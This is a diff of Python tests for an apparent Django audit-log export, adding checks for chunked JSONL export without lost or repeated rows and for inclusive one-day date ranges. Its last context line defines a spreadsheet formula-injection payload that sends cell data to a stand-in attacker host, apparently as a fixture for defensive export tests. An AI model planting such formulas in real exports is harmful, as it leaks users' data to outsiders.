@@ -149,6 +149,38 @@ def test_ops5_a_running_runs_cancel_names_who_asked_in_the_event_and_the_export(
     )
 
 
+def test_ops5_perf8_the_export_reads_in_chunks_and_loses_or_repeats_no_row(auditor, monkeypatch):
+    """Chunks start where the last ended, by (time, id): rows sharing a timestamp across a
+    chunk boundary are all there, once each, in order."""
+    from django.utils import timezone
+
+    from agentruns.services import audit
+
+    monkeypatch.setattr(audit, "CHUNK", 2)
+    same, later = timezone.now(), timezone.now() + timezone.timedelta(seconds=1)
+    rows = GateAudit.objects.bulk_create(
+        GateAudit(verdict="refused", enforcement="enforced", configuration=f"c{i}")
+        for i in range(7)
+    )
+    GateAudit.objects.filter(pk__in=[r.pk for r in rows[:5]]).update(created_at=same)
+    GateAudit.objects.filter(pk__in=[r.pk for r in rows[5:]]).update(created_at=later)
+    _, body = export(auditor, format="jsonl", kind="gate.refused")
+    assert [json.loads(line)["configuration"] for line in body.splitlines()] == [
+        f"c{i}" for i in range(7)
+    ]
+
+
+def test_ops5_a_day_given_as_to_is_included(auditor):
+    """`from=D&to=D` is the whole day D (found by bench_scale: a date-only `to` was read as
+    D's midnight, so a one-day export was always empty)."""
+    from django.utils import timezone
+
+    GateAudit.objects.create(verdict="refused", enforcement="enforced", configuration="today")
+    today = timezone.now().date().isoformat()
+    _, body = export(auditor, format="jsonl", **{"from": today, "to": today})
+    assert [json.loads(line)["configuration"] for line in body.splitlines()] == ["today"]
+
+
 FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"open")'
 
 
